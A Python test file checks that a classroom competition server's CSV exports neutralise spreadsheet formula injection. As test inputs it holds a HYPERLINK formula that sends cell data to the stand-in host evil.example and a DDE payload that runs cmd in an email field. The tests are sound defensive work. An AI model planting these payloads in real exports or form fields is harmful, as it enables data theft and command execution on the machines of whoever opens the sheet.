"""CSV exports: text a student typed never runs as a spreadsheet formula."""

import csv
import io

import pytest

from server.kit import kit_info
from server.models import ScoreSplit, SubmissionScore, utcnow
from server.states import SubmissionState
from server.web.exports import spreadsheet_safe

EVIL_TEAM = '=HYPERLINK("http://evil.example/"&A2,"x")'
EVIL_EMAIL = "=cmd|' /C calc'!A0@example.org"


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("U-Netters", "U-Netters"),
        (-0.5, -0.5),  # numbers stay numbers
    ],
)
def test_spreadsheet_safe(typed, written):
    assert spreadsheet_safe(typed) == written


def test_submissions_csv_neutralises_formulas(
    client, db, make_user, make_event, make_team, make_submission, auth
):
    make_user(email="teacher@example.org", name="Teacher", instructor=True)
    student = make_user(email=EVIL_EMAIL, name="Mallory")
    team = make_team(make_event(), student, name=EVIL_TEAM)
    make_submission(team, user_id=student.id, error_summary="@SUM(1+1)*cmd")
    auth.login(email="teacher@example.org")
    response = client.get("/admin/events/school/submissions.csv")
    assert response.status_code == 200
    cells = _cells(response.get_data(as_text=True))
    assert "'" + EVIL_TEAM in cells
    assert "'" + EVIL_EMAIL.lower() in cells  # emails are stored in lower case
    assert "'@SUM(1+1)*cmd" in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


def test_leaderboard_csv_neutralises_formulas(
    client, db, make_user, make_event, make_team, make_submission, auth
):
    make_user(email="teacher@example.org", name="Teacher", instructor=True)
    event = make_event()
    team = make_team(event, name=EVIL_TEAM)
    submission = make_submission(team, state=SubmissionState.SCORED, finished_at=utcnow())
    for split in (ScoreSplit.PUBLIC, ScoreSplit.PRIVATE):
        for score in kit_info(event.kit_dir).scores:
            db.add(
                SubmissionScore(
                    submission_id=submission.id, split=split, metric=score.name, value=0.5
                )
            )
    db.commit()
    auth.login(email="teacher@example.org")
    response = client.get("/admin/events/school/leaderboard.csv?board=private")
    assert response.status_code == 200
    cells = _cells(response.get_data(as_text=True))
    assert "'" + EVIL_TEAM in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


def test_cli_exports_neutralise_formulas(
    deblend_cli, db, make_event, make_team, make_submission, tmp_path
):
    team = make_team(make_event(), name=EVIL_TEAM)
    make_submission(team)
    out = tmp_path / "results.csv"
    assert deblend_cli("export-results", "school", "--out", str(out)).exit_code == 0
    cells = _cells(out.read_text())
    assert "'" + EVIL_TEAM in cells
    roster = tmp_path / "roster.csv"
    roster.write_text(f"name,email,team\nMallory,mallory@example.org,{'+1+cmd'}\n")
    passwords = tmp_path / "passwords.csv"
    result = deblend_cli(
        "import-students", str(roster), "--event", "school", "--out", str(passwords)
    )
    assert result.exit_code == 0, result.output
    assert "'+1+cmd" in _cells(passwords.read_text())
